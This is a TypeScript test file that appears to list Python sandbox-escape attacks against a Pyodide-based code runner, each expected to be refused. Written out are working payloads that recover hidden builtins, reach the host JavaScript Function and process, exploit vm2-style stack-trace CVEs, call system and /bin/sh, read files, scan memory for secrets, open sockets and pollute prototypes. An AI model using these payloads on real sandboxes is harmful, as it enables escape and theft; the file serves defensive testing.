/**
 * The full tier with what guards it inside Python got past: the interpreter's true builtins are in the globals of any
 * function of the library, and with them the modules that were put away. From here on nothing of Python's holds, and
 * what is left is what the guest took away from under it, and the second wall.
 */
import { type Attack, type Ending, HARMLESS, inLanguage, STOPPED } from './attack.ts';
import { PYTHON_LOOT } from './loot.ts';

const ENDS: readonly Ending[] = [...HARMLESS, ...STOPPED, 'INTERNAL'];
const gains = ['file', 'environment', 'process', 'network', 'write', 'signal', 'inside'] as const;

/** `core` is the bridge's own module, `F` the host's `Function`, `revive(name)` a module that was put away. */
const FREE = `
import gc, sys, _imp
modules = {o.__name__: o for o in gc.get_objects() if type(o).__name__ == 'module'}
def revive(name):
    for each in list(sys.modules):
        if sys.modules[each] is None:
            del sys.modules[each]
    return __import__(name)
def builtin(name):
    class Spec:
        pass
    spec = Spec()
    spec.name = name
    spec.origin = 'built-in'
    module = _imp.create_builtin(spec)
    _imp.exec_builtin(module)
    return module
core = modules['_pyodide_core']
F = core.to_js([1]).constructor.constructor
Obj = core.to_js({'a': 1}).constructor
def thrown(act):
    try:
        act()
    except BaseException as e:
        return e
`;
const attack = (code: string): string =>
  `${PYTHON_LOOT}
import json
true = json.dumps.__globals__['__builtins__']
scope = {'__builtins__': true, 'print': print, 'loot': loot, 'loot_step': loot_step, 'loot_builtins': loot_builtins}
true['exec'](${JSON.stringify(FREE + code)}, scope)`;

export const pythonRevive: readonly Attack[] = inLanguage('python', [
  {
    id: 'py-revive-true-builtins',
    source: 'class: the builtins in the globals of a function of the library',
    code: attack('loot_builtins(__builtins__)\nloot(__import__("os"))\nprint(sys.executable, sys.orig_argv)'),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-function-of-javascript',
    source: 'CVE-2025-68668 (n8n), by any array that crosses the bridge',
    code: attack(`
for make in (lambda: F('return process')(), lambda: F.new('return process')(), lambda: F.bind(None, 'return process')()(), lambda: F.call(None, 'return process')()):
    loot_step(lambda: print(make().pid))
    e = thrown(make)
    loot_step(lambda: e.stack)
    loot_step(lambda: e.js_error.stack)`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-prepare-stack-trace',
    source: 'CVE-2022-36067 and CVE-2023-29017 (vm2), from Python',
    code: attack(`
Err = Obj.getPrototypeOf(thrown(lambda: F('1')).constructor)
loot_step(lambda: setattr(Err, 'stackTraceLimit', 100))
def frames(error, sites):
    for i in range(sites.length):
        site = sites[i]
        loot_step(lambda: print(site.getFileName(), site.getFunctionName()))
        loot_step(lambda: print(site.getThis().process.pid, site.getFunction()))
    return str(sites.length)
loot_step(lambda: setattr(Err, 'prepareStackTrace', core.create_proxy(frames)))
for act in (lambda: F('1'), lambda: Obj.defineProperty(1), lambda: Err.new('x').stack):
    loot_step(lambda: thrown(act).stack)
box = core.to_js({})
loot_step(lambda: Err.captureStackTrace(box))
loot_step(lambda: box.stack)`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-function-caller',
    source: 'vm2 ATTACKS.md category 5, from Python',
    code: attack(`
found = []
def called(*args):
    for name in ('caller', 'arguments', 'callee'):
        loot_step(lambda: found.append(getattr(F, name)))
    return 1
p = core.create_proxy(called)
loot_step(lambda: core.to_js([3, 1, 2]).map(p))
loot_step(lambda: Obj.getOwnPropertyDescriptors(Obj.getPrototypeOf(F)).caller.get.call(p))
print([str(f)[:200] for f in found])`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-system',
    source: 'emscripten `system`: a shell of the host’s by `node:child_process`',
    code: attack(`
posix = __import__('posix')
print(posix.system('(sleep 30; : @TOKEN@) &'), posix.system(''), posix.system('cat @FILE@'))
loot_step(lambda: __import__('os').popen('cat @FILE@').read())`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-ctypes-run-script',
    source: 'Grist Cellbreak: `emscripten_run_script_string` by ctypes',
    code: attack(`
ctypes = revive('ctypes')
lib = ctypes.CDLL(None)
for name in ('emscripten_run_script_string', 'emscripten_run_script_int', 'emscripten_run_script'):
    def go():
        f = getattr(lib, name)
        f.restype = ctypes.c_char_p
        return f(b"process.getBuiltinModule('fs').writeFileSync('@MARKER@', 'x')")
    loot_step(go)`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-ctypes-system',
    source: 'Grist Cellbreak; smolagents issue 2094',
    code: attack(`
ctypes = revive('ctypes')
lib = ctypes.CDLL(None)
for go in (lambda: lib.system(b'(sleep 30; : @TOKEN@) &'), lambda: lib.kill(@PID@, 12), lambda: lib.getppid(), lambda: ctypes.string_at(1024, 60000)):
    loot_step(lambda: str(go())[:50000])`),
    gains: [...gains, 'memory'],
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-memory-scan',
    source: 'class: all of the interpreter’s memory, read for what others left',
    code: attack(`
ctypes = revive('ctypes')
import re
end = max(id(bytearray(1000)) for _ in range(1000))
for start in range(1024, end, 1 << 16):
    block = ctypes.string_at(start, min(1 << 16, end - start))
    for word in re.findall(rb'[A-Z]+-SECRET-[0-9a-f]+|/[a-z]+/[a-z]+/node_modules/[a-z]+', block):
        print(word)
print('scanned', end >> 20)`),
    gains: [...gains, 'memory'],
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-socket',
    source: 'emscripten sockets: a WebSocket of the host’s',
    code: attack(String.raw`
socket = revive('socket')
s = socket.socket()
loot_step(lambda: s.connect(('127.0.0.1', @PORT@)))
loot_step(lambda: s.send(b'x'))
loot_step(lambda: socket.getaddrinfo('localhost', @PORT@))
u = builtin('_socket').socket(1, 1)
loot_step(lambda: u.connect('\0@SOCKET@'))
import time
time.sleep(0.2)`),
    gains,
    ends: ENDS,
    isRefused: true,
    timeoutMs: 2_500,
  },
  {
    id: 'py-revive-fork-exec',
    source: 'class: the module under subprocess',
    code: attack(`
m = builtin('_posixsubprocess')
print(dir(m))
loot_step(lambda: revive('subprocess').run(['/bin/sh', '-c', 'sleep 30; : @TOKEN@']))
loot_step(lambda: m.fork_exec([b'/bin/sh'], [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, True, False, 0, None, None, None, -1, None))`),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-fatal-error',
    source: 'class: the interpreter’s own way to die, and its report',
    code: attack('core.trigger_fatal_error()'),
    gains,
    ends: ENDS,
    isRefused: true,
  },
  {
    id: 'py-revive-prototype-of-the-host',
    source: 'GHSA-vwrp-x96c-mhwq: the guest’s own JavaScript with its prototypes changed under it',
    code: attack(`
proto = Obj.getPrototypeOf(core.to_js({}))
p = core.create_proxy(lambda *a: (_ for _ in ()).throw(SystemExit(1)))
for name in ('toJSON', 'then', 'type', 'kind', 'end', 'name', 'args', 'code'):
    loot_step(lambda: setattr(proto, name, p))
array = Obj.getPrototypeOf(core.to_js([]))
for name in ('push', 'join', 'map', 'subarray'):
    loot_step(lambda: setattr(array, name, p))
search('x')
{'a': [1]}`),
    gains: [...gains, 'pollution'],
    ends: ENDS,
    isRefused: true,
  },
]);
